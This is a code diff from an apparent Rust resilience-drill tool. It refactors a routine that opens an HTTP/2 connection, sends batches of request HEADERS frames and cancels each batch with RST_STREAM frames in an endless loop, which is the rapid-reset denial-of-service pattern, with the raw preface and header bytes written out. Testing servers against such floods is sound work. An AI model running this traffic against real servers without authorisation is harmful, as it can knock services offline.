@@ -2,6 +2,9 @@
 //! and aborts them soon after.
 
 use crate::{clients, honest::HonestKind};
+use palisade_drill::attacks::h2::frames::{
+    CANCEL, END_HEADERS, END_STREAM, HEADERS, PREFACE, frame, reset, settings,
+};
 use std::{
     collections::BTreeMap,
     io,
@@ -390,18 +393,18 @@ impl Shared {
 
     /// Sends batches of HTTP/2 requests and cancels each batch.
     async fn send_and_cancel_requests(&self, to: &mut (impl AsyncWrite + Unpin)) -> io::Result<()> {
-        to.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
-        to.write_all(&frame(SETTINGS, 0, 0, &[])).await?;
+        to.write_all(PREFACE).await?;
+        to.write_all(&settings(&[])).await?;
         // :method GET and :scheme http indexed, then :path and :authority as literals.
         let head = b"\x82\x86\x04\x05/work\x01\x04demo";
         for batch in 0u32.. {
             let streams = (0..BATCH_REQUESTS).map(|n| 2 * (batch * BATCH_REQUESTS + n) + 1);
             let requests = streams
                 .clone()
-                .flat_map(|stream| frame(HEADERS, 5, stream, head));
+                .flat_map(|stream| frame(HEADERS, END_STREAM | END_HEADERS, stream, head));
             to.write_all(&requests.collect::<Vec<_>>()).await?;
             sleep(CANCEL_AFTER).await;
-            let resets = streams.flat_map(|stream| frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]));
+            let resets = streams.flat_map(|stream| reset(stream, CANCEL));
             to.write_all(&resets.collect::<Vec<_>>()).await?;
             if !self.may_begin() {
                 break;
@@ -518,19 +521,6 @@ impl Upload {
 }
 
 // === Connections ===
-
-const HEADERS: u8 = 1;
-const RST_STREAM: u8 = 3;
-const SETTINGS: u8 = 4;
-
-/// Encodes an HTTP/2 frame (RFC 9113 section 4.1).
-fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
-    let mut frame = (payload.len() as u32).to_be_bytes()[1..].to_vec();
-    frame.extend([kind, flags]);
-    frame.extend(stream.to_be_bytes());
-    frame.extend(payload);
-    frame
-}
 
 /// Sends an endless request head.
 async fn send_endless_head(to: &mut (impl AsyncWrite + Unpin)) -> io::Result<()> {
